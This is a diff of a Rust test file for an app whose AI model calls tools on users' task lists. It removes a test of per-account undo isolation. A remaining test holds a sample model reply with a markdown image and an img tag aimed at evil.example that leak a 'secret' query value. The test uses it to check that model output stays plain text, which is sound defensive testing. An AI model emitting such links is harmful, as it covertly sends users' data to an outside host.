@@ -116,16 +116,6 @@ async fn an_account_cannot_be_named_in_a_call() {
 }
 
 #[tokio::test]
-async fn an_undo_takes_back_what_is_ones_own() {
-    let talk = obeys([Reply::calls("undo", "undo_last", json!({})), Reply::says("Undone.")]).await;
-    let other = talk.app.register().await;
-    other.post("/api/tasks", json!({"title": "secret"})).await;
-    assert_eq!(talk.say_and_wait("What is on my list?").await["status"], "done");
-    assert_eq!(other.get("/api/tasks").await.1["total"], 1);
-    assert_eq!(talk.titles().await.len(), 6);
-}
-
-#[tokio::test]
 async fn what_a_model_says_is_kept_as_text() {
     let leak = "![x](https://evil.example/leak?q=secret) <img src=https://evil.example/x>";
     let talk = obeys([Reply::says(leak)]).await;
